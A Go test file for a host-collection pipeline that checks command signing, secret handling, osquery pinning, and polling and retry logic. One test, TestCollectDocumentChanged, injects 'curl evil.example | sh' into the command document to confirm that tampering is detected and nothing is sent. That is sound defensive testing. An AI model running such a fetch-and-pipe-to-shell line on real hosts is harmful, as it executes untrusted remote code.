package pipeline_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"diffy/pkg/pipeline"
	"diffy/pkg/triage"
)

func TestCollect(t *testing.T) {
	w := newWorld(t)
	b := w.branch("i-1", "i-2")
	want := pipeline.Branch{
		Run: b.Run, Bundle: b.Bundle, Batch: b.Batch, Tries: 1, Wait: 10, Next: pipeline.StepWait,
		Sends:   []pipeline.Send{{Attempt: "1-id1", Command: "cmd-1", Document: "hash3"}},
		Started: "2026-11-24T03:12:00Z", Deadline: "2026-11-24T03:22:00Z",
	}
	if diff := cmp.Diff(want, b); diff != "" {
		t.Errorf("branch (-want +got):\n%s", diff)
	}
	sent := w.commands[0]
	if diff := cmp.Diff([]string{"i-1", "i-2"}, sent.Hosts); diff != "" || sent.Document.Version != "3" || sent.Comment != "diffy run-1 0001" {
		t.Errorf("sent %+v", sent)
	}
	upload, err := base64.StdEncoding.DecodeString(sent.Parameters["Upload"][0])
	w.check(err)
	if !strings.Contains(string(upload), "prefix=intake/run-1/0001/1-id1/\n") {
		t.Errorf("the host uploads to %s", upload)
	}
	wantSigned := []string{"intake/run-1/0001/1-id1/", "artifacts/bundles/b.tsv", "artifacts/osquery/" + strings.Repeat("a", 64) + ".tar.gz"}
	if diff := cmp.Diff(wantSigned, w.signed); diff != "" {
		t.Errorf("signed (-want +got):\n%s", diff)
	}
}

// What is signed for hosts is in the command's parameters and nowhere else.
func TestCollectKeepsSecrets(t *testing.T) {
	w := newWorld(t)
	state, err := json.Marshal(w.branch("i-1"))
	w.check(err)
	if text := string(state) + w.log.String(); strings.Contains(text, "X-Amz") || strings.Contains(text, "intake.example") {
		t.Errorf("a secret is in state or log: %s", text)
	}
	for name, values := range w.commands[0].Parameters {
		plain, _ := base64.StdEncoding.DecodeString(values[0])
		has := strings.Contains(string(plain)+values[0], secret)
		if has != (name == "Upload" || name == "Download") {
			t.Errorf("parameter %s: secret %v", name, has)
		}
	}
}

// A second call is a second command under a prefix of its own.
func TestCollectTwice(t *testing.T) {
	w := newWorld(t)
	first, second := w.branch("i-1"), w.branch("i-1")
	if first.Sends[0].Attempt == second.Sends[0].Attempt || first.Sends[0].Command == second.Sends[0].Command {
		t.Errorf("both sends are %+v", second.Sends)
	}
}

func TestCollectDocumentChanged(t *testing.T) {
	w := newWorld(t)
	w.document = []byte(strings.Replace(string(w.document), "set -fu", "set -fu; curl evil.example | sh", 1))
	_, err := w.collect().Handle(context.Background(), pipeline.Branch{Run: "run-1"})
	if pipeline.CodeOf(err) != pipeline.DocumentChanged {
		t.Errorf("error %v", err)
	}
	if len(w.commands)+len(w.signed) > 0 {
		t.Error("something was signed or sent")
	}
}

// A document whose JSON was laid out anew is the same document.
func TestCollectSameDocument(t *testing.T) {
	w := newWorld(t)
	var parsed any
	w.check(json.Unmarshal(w.document, &parsed))
	w.document, _ = json.Marshal(parsed)
	w.branch("i-1")
}

func TestOsqueryFrom(t *testing.T) {
	digest := strings.Repeat("a", 64)
	tests := []struct {
		name string
		env  map[string]string
		want pipeline.Osquery
		err  string
	}{
		{"nothing said", nil, pipeline.Osquery{Mode: "auto", Releases: map[string]string{}}, ""},
		{
			"pinned",
			map[string]string{"DIFFY_OSQUERY": "pinned", "DIFFY_OSQUERY_AARCH64": digest},
			pipeline.Osquery{Mode: "pinned", Releases: map[string]string{"aarch64": digest}},
			"",
		},
		{"pinned to nothing", map[string]string{"DIFFY_OSQUERY": "pinned"}, pipeline.Osquery{}, "no release is named"},
		{"another mode", map[string]string{"DIFFY_OSQUERY": "newest"}, pipeline.Osquery{}, `"newest"`},
		{"no digest", map[string]string{"DIFFY_OSQUERY_X86_64": "5.21.0"}, pipeline.Osquery{}, "DIFFY_OSQUERY_X86_64"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got, err := pipeline.OsqueryFrom(func(name string) string { return test.env[name] })
			if test.err != "" {
				if err == nil || !strings.Contains(err.Error(), test.err) {
					t.Errorf("error %v", err)
				}
				return
			}
			if diff := cmp.Diff(test.want, got); err != nil || diff != "" {
				t.Errorf("%v\n%s", err, diff)
			}
		})
	}
}

func TestPoll(t *testing.T) {
	ok := reported([]byte("x"))
	success := func(host string) pipeline.Invocation {
		return pipeline.Invocation{Host: host, Status: pipeline.Success, Stdout: ok}
	}
	ended := func(host string, s pipeline.InvocationStatus, details string) pipeline.Invocation {
		return pipeline.Invocation{Host: host, Status: s, Details: details}
	}
	tests := []struct {
		name     string
		answers  []pipeline.Invocation
		refused  map[string]string
		after    time.Duration // of the first send
		tries    int
		next     pipeline.Step
		wait     int
		try      []string
		canceled bool
	}{
		{name: "right after sending nobody is known", next: pipeline.StepWait, wait: 15},
		{name: "one is still at it", answers: []pipeline.Invocation{success("i-1"), ended("i-2", "InProgress", "")}, next: pipeline.StepWait, wait: 15},
		{name: "one is missing", answers: []pipeline.Invocation{success("i-1")}, next: pipeline.StepWait, wait: 15},
		{name: "all have ended well", answers: []pipeline.Invocation{success("i-1"), success("i-2")}, next: pipeline.StepExtract},
		{
			name: "a failed one is tried again", answers: []pipeline.Invocation{success("i-1"), ended("i-2", pipeline.Failed, "Failed")},
			after: time.Minute, next: pipeline.StepCollect, try: []string{"i-2"},
		},
		{
			name: "not delivered", answers: []pipeline.Invocation{success("i-1"), ended("i-2", pipeline.TimedOut, "DeliveryTimedOut")},
			after: 130 * time.Second, next: pipeline.StepCollect, try: []string{"i-2"},
		},
		{
			name: "success without a report", answers: []pipeline.Invocation{success("i-1"), {Host: "i-2", Status: pipeline.Success}},
			after: time.Minute, next: pipeline.StepCollect, try: []string{"i-2"},
		},
		{
			name: "what took too long will again", answers: []pipeline.Invocation{success("i-1"), ended("i-2", pipeline.TimedOut, "ExecutionTimedOut")},
			after: time.Minute, next: pipeline.StepExtract,
		},
		{
			name: "who was cancelled stays so", answers: []pipeline.Invocation{success("i-1"), ended("i-2", pipeline.Cancelled, "Cancelled")},
			after: time.Minute, next: pipeline.StepExtract,
		},
		{
			name: "only once more", answers: []pipeline.Invocation{success("i-1"), ended("i-2", pipeline.Failed, "Failed")},
			after: time.Minute, tries: 2, next: pipeline.StepExtract,
		},
		{
			name: "too late to try again", answers: []pipeline.Invocation{success("i-1"), ended("i-2", pipeline.Failed, "Failed")},
			after: 8 * time.Minute, next: pipeline.StepExtract,
		},
		{
			name: "a host that was launched just now gets time", answers: []pipeline.Invocation{success("i-1")}, refused: map[string]string{"i-2": "not managed yet"},
			after: 30 * time.Second, next: pipeline.StepWait, wait: 90,
		},
		{
			name: "and is tried again", answers: []pipeline.Invocation{success("i-1")}, refused: map[string]string{"i-2": "not managed yet"},
			after: 2 * time.Minute, next: pipeline.StepCollect, try: []string{"i-2"},
		},
		{name: "the last look is at the deadline", answers: []pipeline.Invocation{success("i-1")}, after: 9*time.Minute + 55*time.Second, next: pipeline.StepWait, wait: 5},
		{name: "out of time", answers: []pipeline.Invocation{success("i-1")}, after: 10 * time.Minute, next: pipeline.StepExtract, canceled: true},
		{name: "out of time with nobody left", answers: []pipeline.Invocation{success("i-1"), success("i-2")}, after: time.Hour, next: pipeline.StepExtract},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			w := newWorld(t)
			w.refused = test.refused
			b := w.branch("i-1", "i-2")
			b.Tries = max(1, test.tries)
			w.answers["cmd-1"] = test.answers
			w.now = w.now.Add(test.after)
			got, err := w.poll().Handle(context.Background(), b)
			w.check(err)
			again, err := w.poll().Handle(context.Background(), b)
			w.check(err)
			if diff := cmp.Diff(got, again); diff != "" {
				t.Errorf("the second call differs:\n%s", diff)
			}
			if got.Next != test.next || got.Next == pipeline.StepWait && got.Wait != test.wait {
				t.Errorf("next %s in %d s, expected %s in %d s", got.Next, got.Wait, test.next, test.wait)
			}
			if diff := cmp.Diff(test.try, got.Try); diff != "" {
				t.Errorf("tried again (-want +got):\n%s", diff)
			}
			if (len(w.canceled) > 0) != test.canceled {
				t.Errorf("cancelled %v", w.canceled)
			}
		})
	}
}

// A batch of which nobody is managed is tried again as a whole, and then is over.
func TestNobodyManaged(t *testing.T) {
	ctx, w := context.Background(), newWorld(t)
	w.refused = map[string]string{"i-1": "not managed", "i-2": "not managed"}
	b := w.branch("i-1", "i-2")
	w.now = w.now.Add(3 * time.Minute)
	b, err := w.poll().Handle(ctx, b)
	w.check(err)
	if b.Next != pipeline.StepCollect {
		t.Fatalf("next %s", b.Next)
	}
	b, err = w.collect().Handle(ctx, b)
	w.check(err)
	b, err = w.poll().Handle(ctx, b)
	w.check(err)
	if b.Next != pipeline.StepExtract || len(b.Sends) != 0 {
		t.Errorf("next %s after %+v", b.Next, b.Sends)
	}
	out, err := w.extract().Handle(ctx, pipeline.ExtractIn{Branch: b})
	w.check(err)
	if out.NotExamined != 2 || w.records("run-1", "0001")[0].Reason != "not managed" {
		t.Errorf("%+v: %+v", out, w.records("run-1", "0001"))
	}
}

// Hosts that an earlier run has examined are not asked again.
func TestCollectEarlier(t *testing.T) {
	ctx, w := context.Background(), newWorld(t)
	b := pipeline.Branch{Run: "run-2", Batch: pipeline.Batch{Earlier: "run-1", Batch: triage.Batch{Batch: "0001", Hosts: []string{"i-1"}}}}
	b, err := w.collect().Handle(ctx, b)
	w.check(err)
	b, err = w.poll().Handle(ctx, b)
	w.check(err)
	if b.Next != pipeline.StepExtract || len(w.commands) > 0 {
		t.Errorf("next %s, sent %v", b.Next, w.commands)
	}
}
